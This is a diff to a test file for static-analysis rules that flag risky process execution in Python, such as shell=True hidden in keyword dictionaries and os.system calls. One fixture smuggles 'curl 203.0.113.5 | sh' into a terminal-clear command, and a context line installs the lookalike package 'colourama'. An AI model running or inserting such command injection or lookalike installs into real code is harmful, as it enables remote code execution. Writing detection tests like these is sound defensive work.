@@ -1,6 +1,7 @@
 # Tests for rules/process.yaml. A "# ruleid: X" line means the next line
 # must produce rule X; "# ok: X" means it must not.
 import asyncio
+import json
 import concurrent.futures
 import multiprocessing
 import os
@@ -305,3 +306,35 @@ from pip._internal.cli.main import main as pip_main
 
 # ruleid: pip-in-process
 pip_main(["install", "colourama"])
+
+
+# **kwargs: a wrapper's own parameter hides nothing (its callers' keywords
+# are checked where they are written); a dict display is read key by key
+def sh(command, **kw):
+    # ok: subprocess-shell-true
+    # ruleid: subprocess-call
+    return subprocess.run(command, check=True, **kw)
+
+
+# ruleid: shell-true-call
+sh("make all", shell=True)
+run_opts = {"cwd": "build", "check": True}
+# ok: subprocess-shell-true
+# ruleid: subprocess-call
+subprocess.run(["/usr/bin/make"], **run_opts)
+shell_opts = {"shell": True}
+# ruleid: subprocess-shell-true, subprocess-call, process-partial-path, shell-true-call
+subprocess.run("make all", **shell_opts)
+# ruleid: subprocess-shell-true, subprocess-call, process-partial-path, process-partial-path
+subprocess.run("make all", **json.loads(cmd))
+
+# clearing the terminal, the one shell command every terminal game writes
+# ok: shell-command
+os.system("cls" if os.name == "nt" else "clear")
+# ok: shell-command
+# ruleid: process-partial-path
+os.system("clear")
+# ruleid: shell-command, process-partial-path
+os.system("clear; curl 203.0.113.5 | sh")
+# ruleid: shell-command
+os.system("cls" if os.name == "nt" else cmd)
